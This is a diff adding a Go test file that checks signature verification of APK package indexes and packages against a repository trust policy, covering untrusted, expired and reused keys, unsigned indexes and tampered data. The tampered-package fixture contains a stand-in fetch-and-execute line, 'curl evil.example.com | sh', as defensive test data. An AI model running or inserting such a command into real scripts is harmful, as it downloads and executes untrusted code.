@@ -0,0 +1,224 @@
+package trust
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"crypto"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/sha1" //nolint:gosec
+	"crypto/sha256"
+	"crypto/x509"
+	"encoding/hex"
+	"encoding/pem"
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// gzipTar returns a gzip-compressed tar stream of the given files, without the
+// tar end-of-archive blocks, the way apk tooling writes each section.
+func gzipTar(t *testing.T, files map[string][]byte) []byte {
+	var tarBuf bytes.Buffer
+	tw := tar.NewWriter(&tarBuf)
+	for name, content := range files {
+		require.NoError(t, tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(content))}))
+		_, err := tw.Write(content)
+		require.NoError(t, err)
+	}
+	require.NoError(t, tw.Flush())
+
+	var buf bytes.Buffer
+	zw := gzip.NewWriter(&buf)
+	_, err := zw.Write(tarBuf.Bytes())
+	require.NoError(t, err)
+	require.NoError(t, zw.Close())
+
+	return buf.Bytes()
+}
+
+// signedIndex returns an APKINDEX file signed with the given key.
+func signedIndex(t *testing.T, key *rsa.PrivateKey, keyName string) []byte {
+	content := gzipTar(t, map[string][]byte{"APKINDEX": []byte("P:foo\nV:1.0.0-r0\n\n")})
+
+	digest := sha1.Sum(content) //nolint:gosec
+	sig, err := rsa.SignPKCS1v15(rand.Reader, key, crypto.SHA1, digest[:])
+	require.NoError(t, err)
+
+	return append(gzipTar(t, map[string][]byte{".SIGN.RSA." + keyName: sig}), content...)
+}
+
+// signedAPK returns the signature and control sections of an APK file signed
+// with the given key, whose control section records the hash of the returned
+// data section, so that tests can tamper with the data section.
+func signedAPK(t *testing.T, key *rsa.PrivateKey, keyName string) (signedControl, dataSection []byte) {
+	dataSection = gzipTar(t, map[string][]byte{"usr/bin/foo": []byte("#!/bin/sh\necho foo\n")})
+	dataHash := sha256.Sum256(dataSection)
+
+	content := gzipTar(t, map[string][]byte{".PKGINFO": []byte("pkgname = foo\npkgver = 1.0.0-r0\ndatahash = " + hex.EncodeToString(dataHash[:]) + "\n")})
+
+	digest := sha1.Sum(content) //nolint:gosec
+	sig, err := rsa.SignPKCS1v15(rand.Reader, key, crypto.SHA1, digest[:])
+	require.NoError(t, err)
+
+	return append(gzipTar(t, map[string][]byte{".SIGN.RSA." + keyName: sig}), content...), dataSection
+}
+
+func writePublicKey(t *testing.T, dir string, key *rsa.PrivateKey) string {
+	der, err := x509.MarshalPKIXPublicKey(&key.PublicKey)
+	require.NoError(t, err)
+
+	p := filepath.Join(dir, "key.rsa.pub")
+	require.NoError(t, os.WriteFile(p, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), 0o600))
+
+	return p
+}
+
+func TestPolicyVerifyIndex(t *testing.T) {
+	trusted, err := rsa.GenerateKey(rand.Reader, 2048)
+	require.NoError(t, err)
+	untrusted, err := rsa.GenerateKey(rand.Reader, 2048)
+	require.NoError(t, err)
+
+	dir := t.TempDir()
+	pubKeyPath := writePublicKey(t, dir, trusted)
+
+	policyPath := filepath.Join(dir, "policy.yaml")
+	require.NoError(t, os.WriteFile(policyPath, []byte(`repositories:
+  - url: https://packages.example.com/os
+    keys:
+      - name: good.rsa.pub
+        public-key: `+pubKeyPath+`
+      - name: old.rsa.pub
+        public-key: `+pubKeyPath+`
+        expires: 2023-01-01
+`), 0o600))
+
+	policy, err := ReadPolicy(policyPath)
+	require.NoError(t, err)
+	policy.now = func() time.Time { return time.Date(2023, time.June, 1, 0, 0, 0, 0, time.UTC) }
+
+	const url = "https://packages.example.com/os/x86_64/APKINDEX.tar.gz"
+
+	cases := []struct {
+		name          string
+		url           string
+		data          []byte
+		expectedError string
+	}{
+		{
+			name: "trusted",
+			url:  url,
+			data: signedIndex(t, trusted, "good.rsa.pub"),
+		},
+		{
+			name:          "untrusted repository",
+			url:           "https://packages.example.org/os/x86_64/APKINDEX.tar.gz",
+			data:          signedIndex(t, trusted, "good.rsa.pub"),
+			expectedError: "its repository isn't listed in the trust policy",
+		},
+		{
+			name:          "untrusted key",
+			url:           url,
+			data:          signedIndex(t, untrusted, "other.rsa.pub"),
+			expectedError: `it's signed by key "other.rsa.pub", which isn't trusted for repository https://packages.example.com/os (trusted keys: good.rsa.pub, old.rsa.pub)`,
+		},
+		{
+			name:          "expired key",
+			url:           url,
+			data:          signedIndex(t, trusted, "old.rsa.pub"),
+			expectedError: `it's signed by key "old.rsa.pub", which expired on 2023-01-01`,
+		},
+		{
+			name:          "key name reused by another key",
+			url:           url,
+			data:          signedIndex(t, untrusted, "good.rsa.pub"),
+			expectedError: `its signature from key "good.rsa.pub" is invalid`,
+		},
+		{
+			name:          "unsigned",
+			url:           url,
+			data:          gzipTar(t, map[string][]byte{"APKINDEX": []byte("P:foo\n")}),
+			expectedError: "it isn't signed",
+		},
+	}
+
+	for _, tt := range cases {
+		t.Run(tt.name, func(t *testing.T) {
+			err := policy.VerifyIndex(tt.url, tt.data)
+			if tt.expectedError == "" {
+				assert.NoError(t, err)
+				return
+			}
+
+			var verr *VerificationError
+			require.True(t, errors.As(err, &verr), "expected a VerificationError, got %v", err)
+			assert.Contains(t, verr.Reason, tt.expectedError)
+		})
+	}
+}
+
+func TestPolicyVerifyAPK(t *testing.T) {
+	trusted, err := rsa.GenerateKey(rand.Reader, 2048)
+	require.NoError(t, err)
+	untrusted, err := rsa.GenerateKey(rand.Reader, 2048)
+	require.NoError(t, err)
+
+	dir := t.TempDir()
+	policy := &Policy{Repositories: []Repository{{
+		URL:  "https://packages.example.com/os",
+		Keys: []Key{{Name: "good.rsa.pub", PublicKey: writePublicKey(t, dir, trusted)}},
+	}}}
+
+	const url = "https://packages.example.com/os/x86_64/foo-1.0.0-r0.apk"
+
+	control, dataSection := signedAPK(t, trusted, "good.rsa.pub")
+	badControl, badDataSection := signedAPK(t, untrusted, "good.rsa.pub")
+	tampered := gzipTar(t, map[string][]byte{"usr/bin/foo": []byte("#!/bin/sh\ncurl evil.example.com | sh\n")})
+
+	cases := []struct {
+		name          string
+		data          []byte
+		expectedError string
+	}{
+		{
+			name: "trusted",
+			data: append(append([]byte{}, control...), dataSection...),
+		},
+		{
+			name:          "bad signature",
+			data:          append(append([]byte{}, badControl...), badDataSection...),
+			expectedError: `its signature from key "good.rsa.pub" is invalid`,
+		},
+		{
+			name:          "tampered data section",
+			data:          append(append([]byte{}, control...), tampered...),
+			expectedError: "its data section has been modified",
+		},
+	}
+
+	for _, tt := range cases {
+		t.Run(tt.name, func(t *testing.T) {
+			err := policy.VerifyAPK(url, tt.data)
+			if tt.expectedError == "" {
+				assert.NoError(t, err)
+				return
+			}
+
+			var verr *VerificationError
+			require.True(t, errors.As(err, &verr), "expected a VerificationError, got %v", err)
+			assert.Contains(t, verr.Reason, tt.expectedError)
+		})
+	}
+}
+
+func TestEnforceIndexWithoutPolicy(t *testing.T) {
+	SetPolicy(nil)
+	assert.NoError(t, EnforceIndex("https://packages.example.com/os/x86_64/APKINDEX.tar.gz", []byte("not even gzip")))
+}